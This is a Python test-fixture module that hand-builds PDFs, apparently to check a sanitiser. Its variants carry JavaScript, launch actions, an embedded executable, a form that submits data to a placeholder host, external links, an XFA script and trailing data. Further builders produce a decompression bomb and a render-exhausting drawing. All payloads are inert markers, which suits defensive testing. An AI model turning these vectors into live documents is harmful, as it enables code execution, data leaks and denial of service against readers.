"""PDFs written by hand: an honest page, and everything that a PDF can carry besides."""

import io
import zlib
from collections.abc import Mapping

import pypdfium2

INK = b"0 0 1 rg 20 20 60 60 re f"


def pdf(
    *,
    catalog: bytes = b"",
    page: bytes = b"",
    box: bytes = b"[0 0 200 100]",
    drawing: bytes = INK,
    more: Mapping[int, bytes] = {},
    pages: int = 1,
) -> bytes:
    """One page with a blue square, ``pages`` times; ``catalog`` and ``page`` are further entries, ``more`` further objects."""
    kids = b" ".join([b"3 0 R"] * pages)
    bodies = {
        1: b"<< /Type /Catalog /Pages 2 0 R %b >>" % catalog,
        2: b"<< /Type /Pages /Count %d /Kids [%b] >>" % (pages, kids),
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox %b /Contents 4 0 R /Resources << >> %b >>" % (box, page),
        4: stream(drawing),
        **more,
    }
    out, offsets = bytearray(b"%PDF-1.7\n"), {}
    for number, body in bodies.items():
        offsets[number] = len(out)
        out += b"%d 0 obj\n%b\nendobj\n" % (number, body)
    table = len(out)
    out += b"xref\n0 1\n0000000000 65535 f \n"
    for number, offset in offsets.items():
        out += b"%d 1\n%010d 00000 n \n" % (number, offset)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (max(offsets) + 1, table)
    return bytes(out)


def stream(content: bytes, entries: bytes = b"") -> bytes:
    return b"<< /Length %d %b >>\nstream\n%b\nendstream" % (len(content), entries, content)


def link(action: bytes) -> bytes:
    return b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 200 100] /A << %b >> >>]" % action


MARK = b"SECRETMARK"
# What each carries; all of them hold MARK somewhere, and the blue square.
CARRYING: dict[str, bytes] = {
    "a script when it opens": pdf(catalog=b"/OpenAction << /S /JavaScript /JS (app.alert\\('SECRETMARK'\\)) >>"),
    "scripts by name": pdf(
        catalog=b"/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (SECRETMARK) >>] >> >>"
    ),
    "a script of its page": pdf(page=b"/AA << /O << /S /JavaScript /JS (SECRETMARK) >> >>"),
    "an embedded file": pdf(
        catalog=b"/Names << /EmbeddedFiles << /Names [(a.exe) 5 0 R] >> >>",
        more={
            5: b"<< /Type /Filespec /F (a.exe) /EF << /F 6 0 R >> >>",
            6: stream(b"MZ" + MARK, b"/Type /EmbeddedFile"),
        },
    ),
    "a link": pdf(page=link(b"/S /URI /URI (http://192.0.2.1/SECRETMARK)")),
    "a program to launch": pdf(
        catalog=b"/OpenAction << /S /Launch /F (/bin/SECRETMARK) >>", page=link(b"/S /Launch /F (cmd)")
    ),
    "another file to open": pdf(page=link(b"/S /GoToR /F (//192.0.2.1/SECRETMARK) /D [0 /Fit]")),
    "a form that sends itself": pdf(
        catalog=b"/AcroForm << /Fields [5 0 R] >>",
        page=b"/Annots [5 0 R]",
        more={
            5: b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (a) /V (SECRETMARK) /Rect [0 0 1 1]"
            b" /AA << /F << /S /SubmitForm /F (http://192.0.2.1/) >> >> >>"
        },
    ),
    "an XFA form": pdf(
        catalog=b"/AcroForm << /Fields [] /XFA 5 0 R >> /NeedsRendering true",
        more={5: stream(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'><script>SECRETMARK</script></xdp:xdp>")},
    ),
    "a picture from elsewhere": pdf(
        page=b"/Annots []", more={5: stream(b"", b"/F << /FS /URL /F (http://192.0.2.1/SECRETMARK) >>")}
    ),
    "metadata": pdf(catalog=b"/Metadata 5 0 R", more={5: stream(b"<x>SECRETMARK</x>", b"/Type /Metadata")}),
    "something after its end": pdf() + b"PK\x03\x04SECRETMARK",
}


def locked() -> bytes:
    """Encrypted with a password that nobody has: RC4 of 40 bits, with hashes that nothing fits."""
    encryption = b"<< /Filter /Standard /V 1 /R 2 /O <%b> /U <%b> /P -4 >>" % (b"11" * 32, b"22" * 32)
    return pdf().replace(b"/Root 1 0 R", b"/Root 1 0 R /ID [<00> <00>] /Encrypt " + encryption)


def bomb() -> bytes:
    """A drawing of a gibibyte in a megabyte: deflated zeros, of which each mebibyte looks like the one before."""
    packer = zlib.compressobj(9)
    first, again = (packer.compress(bytes(2**20)) + packer.flush(zlib.Z_FULL_FLUSH) for _ in range(2))
    return pdf(more={4: stream(first + again * 1023, b"/Filter /FlateDecode")})


def endless() -> bytes:
    """A drawing that takes minutes: shapes over the whole page, one upon the other."""
    shapes = b"/G gs " + b"0 0 200 100 re f* 0 0 m 200 100 l 0 100 l 200 0 l f* " * 200_000
    return pdf(more={4: stream(zlib.compress(shapes, 9), b"/Filter /FlateDecode")})


def colours(content: bytes) -> list[object]:
    """The colour of each page where the square is."""
    document = pypdfium2.PdfDocument(io.BytesIO(content))
    return [document[number].render(scale=1).to_pil().getpixel((50, 50)) for number in range(len(document))]
